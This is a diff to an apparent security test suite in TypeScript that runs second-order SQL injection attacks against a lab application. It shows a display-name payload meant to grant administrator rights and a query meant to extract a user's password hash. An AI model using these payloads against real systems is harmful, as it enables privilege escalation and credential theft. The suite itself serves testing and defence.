@@ -6,7 +6,7 @@ interface List {
   items?: { id: string; title: string }[];
 }
 
-/** Signs up under a display name of the attacker's making, and in. */
+/** Signs up under a display name of the attacker's making, and in. It is stored first, and used later. */
 async function signUpAs(target: Target, displayName: string): Promise<TracingClient> {
   const suffix = randomBytes(4).toString('hex');
   const credentials = {
@@ -15,6 +15,7 @@ async function signUpAs(target: Target, displayName: string): Promise<TracingCli
   };
   const mallory = target.stranger('mallory');
   await mallory.post('/v1/auth/register', { ...credentials, displayName });
+  await target.confirm(credentials);
   const { body } = await mallory.post<{ accessToken?: string }>('/v1/auth/login', credentials);
   target.trace.pop();
   return mallory.withToken(body.accessToken ?? '');
@@ -24,6 +25,7 @@ const throughValues: Attack[] = [
   {
     id: 'sql-become-admin',
     title: 'Sign up under a display name that goes on as SQL, and be an administrator',
+    needsLab: true,
     run: async (target) => {
       const ada = await target.person('ada');
       const mallory = await signUpAs(target, `',$2,coalesce('admin',$3))--`);
@@ -40,6 +42,7 @@ const throughValues: Attack[] = [
   {
     id: 'sql-read-hash',
     title: 'Sign up under a display name that becomes Ada’s password hash',
+    needsLab: true,
     run: async (target) => {
       const ada = await target.person('ada');
       const query = `SELECT password_hash FROM users WHERE email='${ada.email}'`;
